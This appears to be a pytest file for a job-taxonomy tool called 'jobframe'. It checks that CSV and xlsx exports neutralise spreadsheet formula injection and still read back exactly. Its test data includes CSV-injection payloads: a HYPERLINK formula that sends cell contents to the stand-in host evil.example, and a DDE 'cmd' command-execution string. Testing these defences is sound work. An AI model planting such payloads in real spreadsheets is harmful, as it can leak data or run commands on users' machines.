"""No exported cell is read as a formula by a spreadsheet (OWASP's CSV injection), and every
text still reads back exactly: a CSV cell that would start with `=`, `+`, `-`, `@`, a tab or
a carriage return is written after a `'`, which `jobframe import` removes (exactly one); an
xlsx cell is a text cell, never a formula."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from jobframe.cli import main
from jobframe.interchange import Row, Table, read_tables, write_tables
from jobframe.resources import DEFAULT_CANON_DIR

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "'=already an apostrophe",
    "''@two apostrophes",
    "'plain apostrophe",
    "-3",
    "2.5",
]
HOSTILE = '"=HYPERLINK(\\"https://evil.example\\")"'
"""A label a spreadsheet would run, as Turtle writes it."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _texts(texts: list[str]) -> dict[str, Table]:
    header = ("family", "level", "order", "source", "text")
    rows = tuple(
        Row(n, {"family": "F", "level": "L", "order": str(n), "source": "S", "text": text})
        for n, text in enumerate(texts, start=2)
    )
    return {"responsibilities": Table("responsibilities", header, rows)}


def _cells(file: Path) -> list[str]:
    with file.open(encoding="utf-8-sig", newline="") as rows:
        return [cell for row in csv.reader(rows) for cell in row]


def test_no_csv_cell_starts_with_a_formula_trigger_and_every_text_reads_back(
    tmp_path: Path,
) -> None:
    write_tables(_texts(FORMULAS), tmp_path, "csv")
    cells = _cells(tmp_path / "responsibilities.csv")
    formulas = [c for c in cells if c.startswith(TRIGGERS) and c not in ("-3",)]
    assert not formulas, formulas
    read = read_tables(tmp_path)["responsibilities"]
    assert [r.get("text") for r in read.rows] == FORMULAS


def test_an_xlsx_cell_that_looks_like_a_formula_is_a_text_cell(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    write_tables(_texts(FORMULAS), path, "xlsx")
    ws = openpyxl.load_workbook(path)["responsibilities"]
    kinds = {ws.cell(row=i, column=5).data_type for i in range(2, len(FORMULAS) + 2)}
    assert kinds == {"s"}
    assert [r.get("text") for r in read_tables(path)["responsibilities"].rows] == FORMULAS


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_jobframe_export_writes_no_formula_and_import_reads_the_canon_back(
    tmp_path: Path, format: str
) -> None:
    canon = Path(shutil.copytree(DEFAULT_CANON_DIR, tmp_path / "canon"))
    for file in canon.rglob("*.ttl"):
        text = file.read_text("utf-8").replace('"Clinical Trials Operations"', HOSTILE)
        file.write_text(text, "utf-8")
    out = tmp_path / ("book.xlsx" if format == "xlsx" else "book")
    runner = CliRunner()
    command = ["export", "--canon", str(canon), "--format", format, "--out", str(out)]
    exported = runner.invoke(main, command)
    assert exported.exit_code == 0, exported.output
    if format == "csv":
        cells = [c for f in sorted(out.glob("*.csv")) for c in _cells(f)]
        assert any(c.startswith("'=HYPERLINK") for c in cells)
        assert not [c for c in cells if c.startswith(TRIGGERS) and not c.lstrip("-").isdigit()]
    imported = runner.invoke(main, ["import", str(out), "--out", str(tmp_path / "again")])
    assert imported.exit_code == 0, imported.output
    again = "".join(f.read_text("utf-8") for f in sorted((tmp_path / "again").glob("*.ttl")))
    assert HOSTILE in again
